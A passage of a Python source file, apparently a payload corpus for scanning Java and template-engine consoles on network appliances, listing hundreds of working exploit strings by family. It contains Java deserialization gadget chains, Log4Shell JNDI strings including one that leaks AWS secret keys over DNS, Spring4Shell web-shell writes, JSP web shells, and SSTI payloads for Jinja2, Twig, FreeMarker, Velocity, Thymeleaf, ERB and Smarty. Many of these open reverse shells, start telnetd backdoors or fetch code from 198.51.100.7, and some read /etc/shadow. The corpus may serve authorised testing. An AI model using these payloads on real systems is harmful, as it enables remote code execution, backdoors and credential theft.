    "Runtime.getRuntime().exec(new String[]{\"cmd\",\"/c\",\"net user tester P@ssw0rd1 /add\"})",
    "java.lang.Runtime.getRuntime().exec(\"ping -c 3 198.51.100.7\").waitFor()",
    # Groovy (script console of the NMS, rule actions)
    "\"id\".execute().text",
    "[\"sh\",\"-c\",\"cat /etc/passwd\"].execute().text",
    "'wget -O /tmp/b http://198.51.100.7/b'.execute().waitFor()",
    "def p = ['bash','-c','bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'].execute(); p.waitFor()",
    # Nashorn (JS rule engine of the building-management station)
    "new java.lang.ProcessBuilder[\"(java.lang.String[])\"]([\"/bin/sh\",\"-c\",\"id\"]).start()",
    "var p=java.lang.Runtime.getRuntime().exec('id');"
    "new java.util.Scanner(p.getInputStream()).useDelimiter('\\\\A').next()",
    "Java.type('java.lang.Runtime').getRuntime().exec('touch /tmp/pwned')",
    # reflection into the process implementation
    "Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\",String[].class,java.util.Map.class,"
    "String.class,ProcessBuilder.Redirect[].class,boolean.class)",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"cat /etc/hostname\").getInputStream()).next()",
    "org.apache.commons.io.IOUtils.toString(Runtime.getRuntime().exec(\"ifconfig\").getInputStream())",
    "new ProcessBuilder(\"powershell\",\"-enc\",\"" + base64.b64encode("whoami".encode("utf-16-le")).decode()
    + "\").start()",
]

# java-serialization. Target: Java deserializers on appliance endpoints (JSF ViewState of an HMI or NVR web
# client, serialized session cookies and headers of Java NMS consoles, RMI/HTTP invoker servlets): URLDNS probes,
# empty-map probes and CommonsCollections6 streams, base64, hex, gzip+base64 and raw bytes.
JAVA_SERIAL: list[Entry] = [
    b64(urldns("vs1.dnslog.oast.example")),
    b64(empty_map()),
    b64(cc6("busybox telnetd -l /bin/sh -p 2323")),
    b64(cc6("wget -O /tmp/x.sh http://198.51.100.7/x.sh")),
    b64(cc6("bash -c {echo,Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2h8c2g=}|{base64,-d}|{bash,-i}")),
    base64.urlsafe_b64encode(cc6("touch /tmp/urlsafe")).decode(),
    urldns("vs2.dnslog.oast.example").hex(),
    empty_map().hex(),
    cc6("cat /etc/passwd").hex(),
    gz64(urldns("viewstate.dnslog.oast.example")),
    gz64(cc6("touch /tmp/viewstate")),
    (latin(urldns("raw1.dnslog.oast.example")), *QS),
    (latin(cc6("id")), "form", "rs-raw-body"),
    (latin(empty_map()), "form", "rs-form"),
    (latin(cc6("nc 198.51.100.7 4444 -e /bin/sh")), *QS),
    ('{"viewState":"' + b64(urldns("json.dnslog.oast.example")) + '"}', *JB),
]

# deserialization-gadgets. Target: the gadget classes themselves as the deserializers of Java device portals take
# them (commons-collections, Spring, Groovy, the TemplatesImpl sink of Jdk7u21/CommonsBeanutils, c3p0, ROME,
# Hibernate), through fastjson, Jackson default typing, XStream and c3p0's hex map.
TRANSLET_BYTES = b64(class_file("Pwn", "busybox telnetd -l /bin/sh -p 2323", TRANSLET))
GADGETS: list[Entry] = [
    ('{"@type":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":'
     '"HexAsciiSerializedMap:' + cc6("id").hex() + ';"}', *JB),
    ('["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
     + cc6("reboot").hex() + ';"}]', *JB),
    ('{"@type":"com.mchange.v2.c3p0.JndiRefForwardingDataSource","jndiName":"ldap://198.51.100.7:1389/c3p0",'
     '"loginTimeout":0}', *JB),
    ('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"rmi://198.51.100.7:1099/c3p0",'
     '"loginTimeout":0}]', *JB),
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://198.51.100.7/spel.xml"]', *JB),
    ('{"@type":"org.springframework.beans.factory.config.PropertyPathFactoryBean","targetBeanName":'
     '"ldap://198.51.100.7:1389/spring","propertyPath":"foo","beanFactory":{"@type":'
     '"org.springframework.jndi.support.SimpleJndiBeanFactory","shareableResources":'
     '["ldap://198.51.100.7:1389/spring"]}}', *JB),
    ('["org.hibernate.jmx.StatisticsService",{"sessionFactoryJNDIName":"ldap://198.51.100.7:1389/hibernate"}]',
     *JB),
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + TRANSLET_BYTES
     + '"],"_name":"a","_tfactory":{},"_outputProperties":{}}', *JB),
    ('["com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",{"transletBytecodes":["' + TRANSLET_BYTES
     + '"],"transletName":"a","outputProperties":{}}]', *JB),
    ('["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://198.51.100.7:1389/xbean"}]', *JB),
    ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
     "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\" "
     "reference=\"../../../..\"/><owner class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string>"
     "<string>-c</string><string>id</string></command><redirectErrorStream>false</redirectErrorStream></owner>"
     "<resolveStrategy>0</resolveStrategy><directive>0</directive><parameterTypes/>"
     "<maximumNumberOfParameters>0</maximumNumberOfParameters><method>start</method>"
     "</org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties></groovy.util.Expando>"
     "<int>1</int></entry></map>", *XB),
    ("<map><entry><com.rometools.rome.feed.impl.EqualsBean><beanClass>com.rometools.rome.feed.impl.ToStringBean"
     "</beanClass><obj class=\"com.rometools.rome.feed.impl.ToStringBean\"><beanClass>com.sun.rowset.JdbcRowSetImpl"
     "</beanClass><obj class=\"com.sun.rowset.JdbcRowSetImpl\" serialization=\"custom\"><javax.sql.rowset.BaseRowSet>"
     "<default><concurrency>1008</concurrency><escapeProcessing>true</escapeProcessing><fetchDir>1000</fetchDir>"
     "<fetchSize>0</fetchSize><isolation>2</isolation><maxFieldSize>0</maxFieldSize><maxRows>0</maxRows>"
     "<queryTimeout>0</queryTimeout><readOnly>true</readOnly><rowSetType>1004</rowSetType>"
     "<showDeleted>false</showDeleted><dataSource>ldap://198.51.100.7:1389/rome</dataSource><params/></default>"
     "</javax.sql.rowset.BaseRowSet></obj></obj></com.rometools.rome.feed.impl.EqualsBean>"
     "<com.rometools.rome.feed.impl.EqualsBean reference=\"../com.rometools.rome.feed.impl.EqualsBean\"/>"
     "</entry></map>", *XB),
    ("<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
     "<default><size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\">"
     "<property>outputProperties</property></comparator></default><int>3</int>"
     "<com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl serialization=\"custom\">"
     "<com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl><default><__name>a</__name><__bytecodes>"
     "<byte-array>" + TRANSLET_BYTES + "</byte-array></__bytecodes><__indentNumber>0</__indentNumber>"
     "<__transletIndex>-1</__transletIndex></default><boolean>false</boolean>"
     "</com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl>"
     "</com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl><string>x</string></java.util.PriorityQueue>"
     "</java.util.PriorityQueue>", *XB),
    ("!!com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\nuserOverridesAsString: \"HexAsciiSerializedMap:"
     + cc6("touch /tmp/yaml").hex() + ";\"\n", *YB),
    b64(cc6("busybox wget http://198.51.100.7/m -O /tmp/m")),
    gz64(cc6("nvram set telnetd_enable=1")),
    ('{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://198.51.100.7:1389/shiro"}', *JB),
    ('{"@type":"org.apache.commons.configuration.JNDIConfiguration","prefix":"ldap://198.51.100.7:1389/cfg"}', *JB),
]

# log4shell. Target: Log4j 2 (< 2.15) in Java device software that logs request fields: the UniFi Network
# Application login ("remember"), VMware/Cisco appliance consoles, NVR servers logging User-Agent and X-Api-Version,
# MQTT/TR-069 brokers logging device names; lookups nested to dodge "${jndi:" filters, data exfiltrated in the
# DNS name.
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://198.51.100.7:1389/o=tomcat}",
    "${jndi:ldaps://198.51.100.7:1636/a}",
    "${jndi:rmi://198.51.100.7:1099/Exploit}",
    "${jndi:dns://l4s.oast.example/a}",
    "${jndi:iiop://198.51.100.7:1050/a}",
    "${jndi:nds://198.51.100.7/a}",
    "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/YnVzeWJveCB0ZWxuZXRkIC1sIC9iaW4vc2g=}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://198.51.100.7/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7:1099/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.7/a}",
    "${${upper:j}ndi:${upper:l}${upper:d}a${lower:p}://198.51.100.7/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.7/a}",
    "${${sys:sun.cpu.isalist}jndi:ldap://198.51.100.7/a}",
    "${jn${env::-}di:ldap://198.51.100.7/a}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://${hostName}.l4s.oast.example/a}",
    "${jndi:ldap://${env:USER}.${sys:java.version}.l4s.oast.example/a}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.l4s.oast.example}",
    "${jndi:ldap://198.51.100.7/${main:0}}",
    ('{"username":"admin","password":"admin","remember":"${jndi:ldap://198.51.100.7:1389/o=tomcat}",'
     '"strict":true}', *JB),
    ('{"username":"admin","password":"x","remember":"\\u0024\\u007bjndi:ldap://198.51.100.7:1389/a\\u007d",'
     '"strict":true}', *JB),
    ("${jndi:ldap://198.51.100.7:1389/a}", "header:X-Forwarded-For", "rs-header:X-Forwarded-For"),
]

# expression-language. Target: OGNL (Struts 2 admin consoles, Confluence on the facilities wiki), SpEL (Spring
# Cloud Function and Gateway in device-cloud backends), MVEL, JEXL, JSP/JSF EL (HMI web clients).
EXPRESSION: list[Entry] = [
    ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
     "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
     "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
     "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
     "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
     "(#p.redirectErrorStream(true)).(#process=#p.start())."
     "(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}",
     "header:Content-Type", "rs-header:Content-Type"),
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
     "'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd-Response',#a))}",
     "path", "rs-path"),
    "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass()"
    ".getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),"
    "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'})).start()}",
    "%{(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess['allowStaticMethodAccess']"
    "=true)(@java.lang.Runtime@getRuntime().exec('busybox telnetd -l /bin/sh'))}",
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','cat /etc/shadow'}).start()",
    ('{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String('
     'T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('
     'new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}', *JB),
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "java.lang.Runtime.getRuntime().exec('wget http://198.51.100.7/s -O /tmp/s'); return 1;",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${pageContext.request.getSession().getServletContext().getRealPath('/')}",
    "${facesContext.getExternalContext().getSessionMap()}",
    "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null)"
    ".exec('id')}",
    "${applicationScope['javax.servlet.context.tempdir']}",
    "${T(java.lang.System).getenv()}",
]

# polymorphic-deserialization. Target: XStream (Jenkins-style and device-cloud REST endpoints), XMLDecoder
# (WebLogic wls-wsat on management servers), fastjson (device-cloud platforms), Jackson default typing and
# SnakeYAML (Spring Boot portals).
POLYMORPHIC: list[Entry] = [
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>/bin/sh</string><string>-c</string><string>busybox telnetd -l /bin/sh -p 2323</string></command>"
     "</target><action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<linked-hash-set><dynamic-proxy><interface>map</interface><handler class=\"java.beans.EventHandler\">"
     "<target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target>"
     "<action>start</action></handler></dynamic-proxy></linked-hash-set>", *XB),
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soapheader\"><java version=\"1.8\" "
     "class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" "
     "length=\"3\"><void index=\"0\"><string>/bin/sh</string></void><void index=\"1\"><string>-c</string></void>"
     "<void index=\"2\"><string>id</string></void></array><void method=\"start\"/></void></java>"
     "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", *XB),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\">"
     "<string>touch /tmp/xmldecoder</string></void></object></java>", *XB),
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><java version=\"1.7.0\" class=\"java.beans.XMLDecoder\">"
     "<object class=\"java.io.PrintWriter\"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/"
     "war/x.jsp</string><void method=\"println\"><string><![CDATA[<% Runtime.getRuntime().exec("
     "request.getParameter(\"c\")); %>]]></string></void><void method=\"close\"/></object></java>", *XB),
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/fj","autoCommit":true}',
     *JB),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
     '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.7:1099/Exploit","autoCommit":true}}', *JB),
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://198.51.100.7:1389/a","autoCommit":true}',
     *JB),
    ('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://198.51.100.7:1389/a",'
     '"autoCommit":true}', *JB),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://198.51.100.7:1389/a",'
     '"autoCommit":true}', *JB),
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":'
     '"ldap://198.51.100.7:1389/a"}}', *JB),
    ('{"@type":"java.lang.AutoCloseable","@type":"org.eclipse.core.internal.localstore.SafeFileOutputStream",'
     '"tempPath":"/opt/app/webapps/ROOT/x.jsp","targetPath":"/tmp/x"}', *JB),
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
     '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A"}',
     *JB),
    ('{"device":{"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://198.51.100.7:1389/hk"}}', *JB),
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://198.51.100.7:1389/jk","autoCommit":true}]', *JB),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://198.51.100.7/inject.sql\'"}]', *JB),
    ('{"@class":"org.springframework.context.support.FileSystemXmlApplicationContext",'
     '"configLocation":"http://198.51.100.7/beans.xml"}', *JB),
    ('{"obj":["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://198.51.100.7:1389/lb"}]}',
     *JB),
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://198.51.100.7/yaml-payload.jar\"]]]]", *YB),
    ("!!com.sun.rowset.JdbcRowSetImpl\ndataSourceName: ldap://198.51.100.7:1389/yaml\nautoCommit: true\n", *YB),
]

# class-loading. Target: the JVM loading attacker classes (URLClassLoader from the tester's host, defineClass of
# inline bytes, MLet, BCEL), and Spring4Shell / Struts class.classLoader binding on Tomcat-hosted device consoles.
CLASS_BYTES = b64(class_file("Cl", "busybox telnetd -l /bin/sh -p 2323"))
CLASS_LOADING: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://198.51.100.7/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL('http://198.51.100.7/e.jar')})"
    ".loadClass('Exploit').getConstructor().newInstance()",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Cl',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + CLASS_BYTES + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()",
    "java.lang.reflect.Method m=ClassLoader.class.getDeclaredMethod(\"defineClass\",byte[].class,int.class,"
    "int.class);m.setAccessible(true);",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(\"http://198.51.100.7/\")})"
    ".loadClass(\"Exploit\")",
    "new javax.script.ScriptEngineManager(new java.net.URLClassLoader(new java.net.URL[]{"
    "new java.net.URL(\"http://198.51.100.7/spi.jar\")}))",
    "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(\"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A\")",
    "(#cl=@java.lang.Thread@currentThread().getContextClassLoader()).(#c=#cl.loadClass('Exploit'))",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode(\""
    + CLASS_BYTES + "\"))",
    "sun.misc.Unsafe.getUnsafe().defineAnonymousClass(Object.class, java.util.Base64.getDecoder()"
    ".decode(\"" + CLASS_BYTES + "\"), null)",
    kv("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals("
       "request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("
       "\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ "
       "out.println(new String(b)); } } %{suffix}i", FB),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", FB),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
       "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="),
    kv("class.classLoader.resources.dirContext.docBase=\\\\198.51.100.7\\share"),
    kv("class['classLoader'].resources.dirContext.aliases=/x=/etc", FB),
]

# jsp-upload. Target: Tomcat/Jetty behind Java appliance consoles (firmware, license and backup upload forms of
# NVR servers, building-management stations and NMS consoles): JSP web shells as the file's content and file names
# that land an executable .jsp/.jspx in the web root (the upload then carries the shell).
JSP_UPLOAD: list[Entry] = [
    "<%@ page import=\"java.io.*\" %><% Process p=Runtime.getRuntime().exec(request.getParameter(\"cmd\"));"
    " BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream())); String l;"
    " while((l=r.readLine())!=null){ out.println(l); } %>",
    "<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()); %>",
    "<%=Runtime.getRuntime().exec(request.getParameter(\"i\"))%>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>"
    "Runtime.getRuntime().exec(request.getParameter(\"cmd\"));</jsp:scriptlet></jsp:root>",
    "<jsp:scriptlet>new ProcessBuilder(\"/bin/sh\",\"-c\",request.getParameter(\"x\")).start();</jsp:scriptlet>",
    "<%! class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,"
    "0,b.length);}}%><% new U(this.getClass().getClassLoader()).g(java.util.Base64.getDecoder().decode("
    "request.getParameter(\"k\"))).newInstance(); %>",
    "<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>",
    "<%@ page import=\"java.util.*,java.io.*\"%><% if(request.getParameter(\"f\")!=null){"
    " new FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\"))"
    ".write(request.getParameter(\"t\").getBytes()); } %>",
    ("cmd.jsp", *UP),
    ("fw_upgrade.jspx", *UP),
    ("../../webapps/ROOT/backup.jsp", *UP),
    ("..\\..\\webapps\\ROOT\\license.jsp", *UP),
    ("shell.JSP", *UP),
    ("config.jsp.", *UP),
    ("restore.jsp::$DATA", *UP),
    ("filename*=UTF-8''..%2F..%2Fwebapps%2FROOT%2Fnvr.jsp", *UP),
]

# ================================================================================================================
# ssti (one sub-family per engine)
# ----------------------------------------------------------------------------------------------------------------
# jinja2. Target: Jinja2 in Flask/Python device UIs and network automation front ends (config templates of
# NetBox-style inventories, Home Assistant-style notification templates rendered outside the sandbox).
JINJA2: list[Entry] = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('busybox telnetd -l /bin/sh -p 2323').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('ip addr').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('ls /config').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')() }}",
    "{{ url_for.__globals__.os.popen('cat /etc/shadow').read() }}",
    "{{ get_flashed_messages.__globals__['current_app'].config }}",
]

# twig. Target: Twig in PHP device portals and NAS add-on UIs.
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{[0]|reduce('system','id')}}",
    "{{['busybox telnetd -l /bin/sh']|filter('passthru')}}",
    "{{['id',1]|sort('system')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{_self.env.setCache(\"ftp://198.51.100.7:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{% set a = ['nc 198.51.100.7 4444 -e /bin/sh'] %}{{ a|map('shell_exec')|join }}",
]

# freemarker. Target: FreeMarker in Java device-management portals (alert and report templates).
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${ob(\"java.lang.ProcessBuilder\",[\"id\"]).start()}",
    "<#assign jt=\"freemarker.template.utility.JythonRuntime\"?new()><@jt>import os;os.system(\"id\")</@jt>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('busybox telnetd -l /bin/sh')}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign cl=object?api.class.protectionDomain.classLoader><#assign c=cl.loadClass("
    "\"freemarker.template.utility.Execute\")>${c?new()(\"id\")}",
    "<#list .data_model?keys as k>${k} </#list>",
    "${\"freemarker.template.utility.Execute\"?new()(\"wget -O /tmp/x http://198.51.100.7/x\")}",
    "<#assign value=\"freemarker.template.utility.Execute\"?new()>${value(\"uname -a\")}",
]

# velocity. Target: Velocity in Java consoles (Solr's VelocityResponseWriter on the monitoring box, wiki macros).
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    kv("wt=velocity&v.template=custom&v.template.custom=#set($x='') #set($rt=$x.class.forName("
       "'java.lang.Runtime')) #set($ex=$rt.getRuntime().exec('id')) $ex.waitFor()"),
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
    ".invoke(null,null).exec(\"cat /etc/passwd\")",
    "#set($x='')#set($p=$x.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"busybox telnetd -l /bin/sh\"))",
    "#set($s=\"\")#set($pb=$s.class.forName(\"java.lang.ProcessBuilder\"))"
    "$pb.getConstructor($s.class.forName(\"[Ljava.lang.String;\")).newInstance([\"id\"]).start()",
    "$request.getSession().getServletContext().getRealPath(\"/\")",
    "#set($x='')#foreach($a in $x.class.forName('java.lang.System').getenv().entrySet())$a #end",
    "#set($x='')#set($f=$x.class.forName('java.io.File').getConstructor($x.class).newInstance('/etc/shadow'))"
    "$x.class.forName('org.apache.commons.io.FileUtils').readFileToString($f)",
    "#set($x=$request.getClass().getClassLoader())$x.loadClass(\"java.lang.Runtime\")",
]

# thymeleaf. Target: Thymeleaf in Spring Boot device portals (view names and fragment selectors built from a
# request value: language, device type, page).
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec(\"touch /tmp/th\")}__::main",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')})]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('busybox telnetd -l /bin/sh')}\"></p>",
    "__|$${#response.addHeader(\"X-Cmd\",T(java.lang.Runtime).getRuntime().exec(\"id\"))}|__::.x",
    "__${T(java.lang.System).getenv()}__::.x",
    "__${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}__::.x",
]

# erb. Target: ERB in Ruby device-fleet portals (alert e-mails and label templates the owner edits).
ERB: list[Entry] = [
    "<%= system('id') %>",
    "<%= `cat /etc/passwd` %>",
    "<%= Dir.entries('/') %>",
    "<%= File.open('/etc/shadow').read %>",
    "<%= eval('`uname -a`') %>",
    "<%= require 'open3'; Open3.popen3('id') { |i, o, e, t| o.read } %>",
    "<%= self.class.const_get(:Kernel).send(:system, 'busybox telnetd -l /bin/sh') %>",
    "<%= ENV.to_h %>",
    "<% IO.popen(['nc','198.51.100.7','4444','-e','/bin/sh']) %>",
]

# smarty. Target: Smarty in PHP SOHO and NAS admin pages.
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
